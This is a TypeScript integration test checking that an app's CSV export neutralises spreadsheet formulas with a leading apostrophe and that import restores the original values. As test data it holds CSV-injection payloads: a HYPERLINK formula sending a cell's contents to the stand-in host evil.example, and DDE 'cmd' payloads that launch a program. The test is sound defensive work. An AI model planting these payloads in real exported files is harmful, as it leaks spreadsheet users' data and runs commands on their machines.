import type { AgreementDto, CommitmentDetailDto } from '@pactwatch/shared/contracts';
import { parse } from 'csv-parse/sync';
import { startTestApp, TestApp } from '../../../support/test-app';
import { Api, created, expectStatus, signedIn } from './fixtures';

/** The three payloads of the review: a link that leaks a cell, a command, and a function call. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const COMMAND = "+cmd|'/c calc'!A1";
const AT_CALL = "@SUM(1+1)*cmd|'/c calc'!A0";

const importCsv = (api: Api, csv: string) => api.request('POST', '/api/commitments/import.csv', csv, { 'content-type': 'text/csv' });

describe('CSV export neutralises formulas, and the import reads them back exactly', () => {
  let source: TestApp;
  let target: TestApp;
  let sourceApi: Api;
  let targetApi: Api;
  let exported: string;

  beforeAll(async () => {
    source = await startTestApp();
    target = await startTestApp();
    sourceApi = (await signedIn(source, 'analyst')).api;
    targetApi = (await signedIn(target, 'analyst')).api;
    const agreement = await created<AgreementDto>(sourceApi.post('/api/agreements', { title: '-Minus agreement', kind: 'mou' }));
    const commitments = [
      { refCode: 'INJ-1', title: HYPERLINK, responsibleBody: COMMAND, sourceLocator: AT_CALL },
      { refCode: 'INJ-2', title: "'Quoted' in the source", responsibleBody: "''Two apostrophes", sourceLocator: 'Article 3' },
      { refCode: 'INJ-3', title: 'An ordinary title', description: '\t=1+1 after a tab', sourceQuote: ' -1 after a space' },
    ];
    for (const body of commitments)
      await created(sourceApi.post('/api/commitments', { ...body, agreementId: agreement.id, deadline: { kind: 'none' } }));
    const response = await sourceApi.get('/api/commitments/export.csv?sort=ref_code');
    expectStatus(response, 200);
    exported = response.body;
  }, 60_000);
  afterAll(async () => {
    await source.close();
    await target.close();
  });

  it('exports each formula cell with an apostrophe in front, so no spreadsheet runs it', () => {
    const records = parse(exported, { columns: true }) as Record<string, string>[];
    const [first, second, third] = records;
    expect(first).toMatchObject({ title: `'${HYPERLINK}`, responsible_body: `'${COMMAND}`, source_locator: `'${AT_CALL}` });
    expect(first.agreement).toBe("'-Minus agreement");
    expect(second).toMatchObject({ title: "''Quoted' in the source", responsible_body: "'''Two apostrophes", source_locator: 'Article 3' });
    expect(third).toMatchObject({ title: 'An ordinary title', description: "'\t=1+1 after a tab", source_quote: "' -1 after a space" });
    // No exported cell starts with a formula character.
    for (const record of records) for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports the export as the original values, and exports the same file again', async () => {
    expectStatus(await importCsv(targetApi, exported), 200);
    const detail = (ref: string) => targetApi.json<CommitmentDetailDto>(`/api/commitments/${ref}`);
    expect(await detail('INJ-1')).toMatchObject({ title: HYPERLINK, responsibleBody: COMMAND, sourceLocator: AT_CALL });
    expect((await detail('INJ-1')).agreement.title).toBe('-Minus agreement');
    expect(await detail('INJ-2')).toMatchObject({ title: "'Quoted' in the source", responsibleBody: "''Two apostrophes" });
    const third = await detail('INJ-3');
    const original = await sourceApi.json<CommitmentDetailDto>('/api/commitments/INJ-3');
    expect({ description: third.description, sourceQuote: third.sourceQuote }).toEqual({
      description: original.description,
      sourceQuote: original.sourceQuote,
    });
    expect((await targetApi.get('/api/commitments/export.csv?sort=ref_code')).body).toBe(exported);
  });
});
